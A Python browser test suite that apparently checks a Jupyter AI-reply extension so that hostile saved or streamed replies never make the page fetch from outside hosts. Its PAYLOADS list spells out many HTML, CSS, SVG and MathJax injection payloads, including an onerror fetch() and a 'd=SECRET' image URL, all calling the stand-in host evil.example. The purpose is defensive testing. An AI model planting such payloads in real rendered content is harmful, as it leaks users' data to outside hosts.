"""A reply never makes the page fetch from anywhere but the Jupyter server, in JupyterLab 4 and Notebook 7 (real
Chromium, every request the page makes recorded with playwright's `page.on('request')`).

- A notebook whose saved reply outputs are hostile, written by hand in both forms (the kernel's `blocks`, and an older
  version's whole `markdown`): remote images, `<video poster>`, CSS `url()` in style attributes and `<style>`,
  `srcset`, SVG `<image href>`, `<link>`, `@font-face`, `<input type=image>`, `<meta>` refresh, `<base>`, embeds,
  math that asks MathJax for a background image. Opened with a kernel, then reopened without one.
- A reply streamed by the test server whose layout (a list item that starts with a code block, then HTML in a later
  code block after a blank line) made the frontend's old fence reader render that HTML live: its code shows as code.

Harness: tests/browser.py.
"""

import nbformat, pytest
from browser import (PANEL, REPLY_MIME, both_apps, code, load_boopiter, open_notebook, reply, reply_done, run_cell,
                     until, write_notebook)
from browser import app, lab, nb7, page, artifacts  # noqa: F401 (fixtures)

pytestmark = pytest.mark.slow

EVIL = 'evil.example'
PAYLOADS = [
    f'<img src="http://{EVIL}/img?d=SECRET">', f'<img src=//{EVIL}/protocol-relative>', f'<img src="\\\\{EVIL}\\backslash">',
    f'<video poster="http://{EVIL}/poster" src="http://{EVIL}/video"></video>',
    f'<div style="background:url(http://{EVIL}/style-attr)">styled</div>',
    f'<p style="background-image:image-set(\'http://{EVIL}/image-set\' 1x)">set</p>',
    f'<img srcset="http://{EVIL}/srcset 1x" src="local.png">',
    f'<svg width="10" height="10"><image href="http://{EVIL}/svg-image" width="10" height="10"/></svg>',
    f'<svg><use xlink:href="http://{EVIL}/svg-use#x"/></svg>',
    f'<link rel="stylesheet" href="http://{EVIL}/link.css"><link rel="prefetch" href="http://{EVIL}/prefetch">',
    f'<style>@font-face{{font-family:leak;src:url(http://{EVIL}/font.woff)}} p{{font-family:leak;'
    f'background:url(http://{EVIL}/style-tag)}}</style>',
    f'<input type="image" src="http://{EVIL}/input">', f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/meta">',
    f'<base href="http://{EVIL}/base/">', f'<iframe src="http://{EVIL}/iframe"></iframe>',
    f'<object data="http://{EVIL}/object"></object><embed src="http://{EVIL}/embed">',
    f'<audio src="http://{EVIL}/audio" autoplay></audio><video><source src="http://{EVIL}/source"></video>',
    f'<picture><source srcset="http://{EVIL}/picture"><img src="x.png"></picture>',
    f'<table background="http://{EVIL}/table"><tr><td background="http://{EVIL}/td">cell</td></tr></table>',
    f'<a href="https://example.com/" ping="http://{EVIL}/ping">a link</a>',
    f'<img src=x onerror="fetch(\'http://{EVIL}/onerror\')">',
    f'![md image](http://{EVIL}/md-image) ![relative](//{EVIL}/md-relative)',
    f'$\\style{{background-image:url(http://{EVIL}/mathjax-style)}}{{x}}$ and '
    f'$\\bbox[background:url(http://{EVIL}/mathjax-bbox)]{{y}}$',
    '$\\require{leak}\\href{http://' + EVIL + '/mathjax-href}{z}$ and $$\\require{physics2}$$',   # MathJax loads by name
]
# layouts that threw the old fence reader off: a list item that starts with code, then code holding a blank line
LEADS = ['- ```\n  a\n  ```', '1. ~~~\n   a\n   ~~~', '- - ```\n    a\n    ```', '> ```\n> a\n> ```', '-     indented']


def saved(data):
    "A saved reply output, as a hand-written notebook may hold it (its text/markdown fallback harmless)."
    data = dict(dict(version=1, kind='reply', model='m', status='done', reasoning='', reasoning_label='',
                     reasoning_streaming=False, reused=False, summary='m', details=['Finish: stop']), **data)
    return nbformat.v4.new_output('display_data', data={REPLY_MIME: data, 'text/markdown': 'A saved reply.',
                                                          'text/plain': 'A saved reply.'},
                                  metadata={'boopiter': {'reply': True, 'model': 'm', 'status': 'done'}})


def hostile_cells():
    "Prompt cells with hostile saved replies: raw blocks, and whole Markdown where HTML sits in code after each lead."
    raw = saved(dict(blocks=PAYLOADS + ['\n\n'.join(PAYLOADS)]))
    layouts = [lead + '\n\n```\n\n' + '\n'.join(PAYLOADS) + '\n```\n\n' + PAYLOADS[0] for lead in LEADS]
    old = [saved(dict(markdown=doc)) for doc in layouts]
    return [code('%%prompt\nHostile blocks.', [raw], 1)] + [code(f'%%prompt\nOld form {i}.', [o], i + 2)
                                                            for i, o in enumerate(old)]


def recording(page, app):
    "Record every request the page makes; anything not for the Jupyter server is refused before it leaves."
    urls = []
    page.on('request', lambda r: urls.append(r.url))
    page.route(lambda url: not url.startswith(app.base + '/'), lambda route: route.abort())
    return urls


def away(urls, app):
    "The requests for anywhere but the Jupyter server (data: and blob: URLs fetch nothing)."
    return [u for u in urls if not u.startswith((app.base + '/', 'data:', 'blob:', 'about:'))]


def all_rendered(n):
    return (f"{PANEL}.content.node.querySelectorAll('.boop-Reply').length === {n} && "
            f"Array.from({PANEL}.content.node.querySelectorAll('.boop-Reply'), r => r.dataset.boopPending)"
            ".every(p => p === '0')")


SETTLE = """() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 1500))))"""
# in the replies' bodies (the code actions' own icons aside): elements and attributes that fetch from elsewhere
REMOTE = """root => Array.from(root.querySelectorAll('.boop-Reply-body *')).filter(e => !e.closest('.boop-CodeActions'))
  .flatMap(e => [
    ...(/^(LINK|META|BASE|STYLE|IFRAME|OBJECT|EMBED|VIDEO|AUDIO|SOURCE|PICTURE|SVG|INPUT)$/i.test(e.tagName) &&
        !e.closest('mjx-container') ? [e.tagName] : []),
    ...e.getAttributeNames().filter(n => /^(src|srcset|poster|background|ping|xlink:href)$/.test(n) ||
        (n === 'style' && /url\\(/.test(e.getAttribute(n))) || (n === 'href' && e.tagName !== 'A'))
        .filter(n => !(n === 'src' && e.getAttribute(n).startsWith(location.origin)))
        .filter(n => !(n === 'src' && !/^([a-z][a-z0-9+.-]*:|[\\\\/]{2})/i.test(e.getAttribute(n))))
        .map(n => `${e.tagName} ${n}=${e.getAttribute(n).slice(0, 60)}`)])"""


@both_apps
def test_hostile_saved_replies_fetch_nothing_but_from_the_server_with_a_kernel_and_without(app, page):
    urls = recording(page, app)
    cells = hostile_cells()
    path = write_notebook(app.root/'hostile.ipynb', cells)
    open_notebook(page, app, path.name)                                   # with a kernel
    until(page, app, all_rendered(len(cells)), 'the saved replies rendered')
    page.evaluate(SETTLE)                                                # images, styles and math load, if they would
    assert away(urls, app) == [], away(urls, app)
    assert any(u.startswith(app.base + '/') for u in urls)              # the recording works: the page's own requests
    body = page.locator('.boop-Reply-body')
    assert page.evaluate(f'() => ({REMOTE})({PANEL}.content.node)') == []
    links = body.first.locator('a', has_text='a link').evaluate_all('as => as.map(a => a.getAttribute("href"))')
    assert links == ['https://example.com/'] * 2, links                 # what is harmless still shows (twice: alone, all)
    for i in range(1, len(cells)):                                       # the old form: one block, its code as code
        codes = reply(page, i).locator('code').evaluate_all('cs => cs.map(c => c.textContent)')   # out of view too
        assert any(PAYLOADS[0] in c and PAYLOADS[5] in c for c in codes), codes

    urls.clear()                                                         # reopened without a kernel
    page.evaluate(f'async () => {{ await {PANEL}.sessionContext.shutdown(); await {PANEL}.context.revert(); }}')
    until(page, app, f'!{PANEL}.sessionContext.session && ' + all_rendered(len(cells)), 'the replies drawn again')
    page.evaluate(SETTLE)
    assert away(urls, app) == [], away(urls, app)
    assert page.evaluate(f'() => ({REMOTE})({PANEL}.content.node)') == []


STREAMED = ('Here is the fix:\n\n- ```python\n  x = 1\n  ```\n\n```\n\n' + '\n'.join(PAYLOADS[:8]) + '\n```\n\n'
            'and $\\style{background-image:url(http://evil.example/streamed-math)}{x}$ done.')


@both_apps
def test_a_streamed_reply_whose_layout_broke_the_old_splitter_fetches_nothing_and_shows_its_code(app, page, srv):
    path = write_notebook(app.root/'streamed.ipynb', ['%%prompt --fresh -m qwen3:1.7b\nShow me.'])
    urls = recording(page, app)
    open_notebook(page, app, path.name)
    load_boopiter(page, app)
    srv.script(STREAMED, delay=0.002)
    run_cell(page, 0)
    until(page, app, reply_done(0), 'the streamed reply', 120)
    page.evaluate(SETTLE)
    assert away(urls, app) == [], away(urls, app)
    out = reply(page, 0)
    codes = out.locator('pre code').evaluate_all('cs => cs.map(c => c.textContent)')
    assert any(all(p in c for p in PAYLOADS[:8]) for c in codes), codes  # every payload, as code
    assert out.evaluate(REMOTE) == []
    assert out.locator('li code, li pre').count() >= 1                   # the list item's own code block
